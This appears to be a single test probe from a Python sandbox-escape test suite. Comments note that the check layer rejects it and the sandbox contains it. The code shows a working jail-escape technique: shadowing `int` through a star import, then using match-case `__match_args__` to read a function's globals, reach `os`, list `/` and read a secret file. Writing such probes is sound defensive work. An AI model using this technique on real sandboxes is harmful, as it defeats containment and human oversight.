# Tries: rebind `int` without writing a binding of it: give the math module an attribute
#   int (math has no __all__), then `from math import *` copies it over the builtin, and
#   `case int(found)` reads __match_args__ ("__globals__") off setLEDs.
# Check layer: rejected (a star import can replace the name a case int(...) relies on).
# Sandbox layer: the probe holds os ("reached os:"); the secret is not in the jail -> failed.
def grab(subject):
    match subject:
        case int(found):
            return found


import math
try:
    kinds = [type(1)]
    T = type(kinds[0])
except Exception:  # a runtime guard on type() may refuse it; the OS layer must hold without one
    T = ().__class__.__class__
Meta = T("Meta", (T,), {"__instancecheck__": lambda cls, obj: True})
math.int = Meta("Grab", (), {"__match_args__": ("__globals__",)})
from math import *
os = grab(setLEDs)["_os"]
print("reached os:", os, sorted(os.listdir("/")))
fd = os.open("@@SECRET_PATH@@", os.O_RDONLY)
print("ESCAPED" + ":", os.read(fd, 200))
